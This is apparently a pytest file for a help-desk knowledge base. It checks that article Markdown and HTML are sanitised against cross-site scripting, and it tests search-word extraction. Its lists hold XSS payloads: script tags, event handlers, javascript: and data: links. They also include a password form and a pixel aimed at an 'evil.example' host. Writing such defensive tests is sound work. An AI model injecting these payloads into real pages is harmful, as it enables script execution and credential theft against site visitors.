"""Article Markdown becomes safe HTML: whatever an author (or someone who took over their account) writes, no
script, event handler, style or javascript: link reaches a page; the Markdown itself renders."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from caredesk.knowledge.queries import words
from caredesk.knowledge.rendering import TAGS, render, sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<p style="position:fixed" class="x" id="y">x</p>',
    "<iframe src=https://example.com></iframe>",
    "<svg><script>alert(1)</script></svg>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<table><tr><td background=javascript:alert(1) onclick=x>a</td></tr></table>",
]
MARKDOWN_ATTACKS = [
    *ATTACKS,
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/pixel.png)",
    "<https://example.com/\" onmouseover=\"alert(1)>",
]


class Elements(HTMLParser):
    """The tags and attributes of an HTML text, as a browser would read them."""

    def __init__(self, html: str):
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


def assert_harmless(html: str) -> None:
    for tag, attrs in Elements(html).found:
        assert tag in TAGS, html
        for name, value in attrs:
            assert not name.startswith("on") and name not in ("style", "class", "id", "src", "background"), html
            if name == "href":
                assert value.split(":")[0].strip().lower() in ("https", "http", "mailto", "tel"), html


@pytest.mark.parametrize("html", ATTACKS)
def test_sanitising_strips_scripts_event_handlers_styles_and_dangerous_links(html):
    assert_harmless(sanitise(html))


def test_sanitising_keeps_what_articles_use():
    assert sanitise('<p><a href="https://travel.state.gov" onclick="x()">State</a> <strong>now</strong></p>') == (
        '<p><a href="https://travel.state.gov" rel="noopener noreferrer nofollow">State</a> <strong>now</strong></p>')


@pytest.mark.parametrize("source", MARKDOWN_ATTACKS)
def test_no_script_handler_style_or_dangerous_link_survives_rendering(source):
    assert_harmless(render(source))


def test_raw_html_in_markdown_is_shown_as_text_not_passed_through():
    assert render("<b>bold</b> <script>x</script>") == "<p>&lt;b&gt;bold&lt;/b&gt; &lt;script&gt;x&lt;/script&gt;</p>\n"


def test_markdown_renders_headings_lists_links_and_tables():
    html = render("# Renew\n\n1. **Fill** the form\n2. Mail it\n\n[State](https://travel.state.gov)\n\n"
                  "| Fee | Amount |\n|---|---|\n| Book | $130 |")
    assert "<h1>Renew</h1>" in html
    assert "<ol>" in html and "<strong>Fill</strong>" in html
    assert '<a href="https://travel.state.gov" rel="noopener noreferrer nofollow">State</a>' in html
    assert "<table>" in html and "<td>$130</td>" in html


def test_an_empty_body_renders_nothing():
    assert render("") == ""


def test_search_words_leave_out_common_words_and_repeats():
    assert words("Hello, where is my PASSPORT? The passport renewal form!") == ["passport", "renewal", "form"]


def test_search_words_stop_at_the_limit():
    assert words("alpha bravo charlie delta", limit=2) == ["alpha", "bravo"]
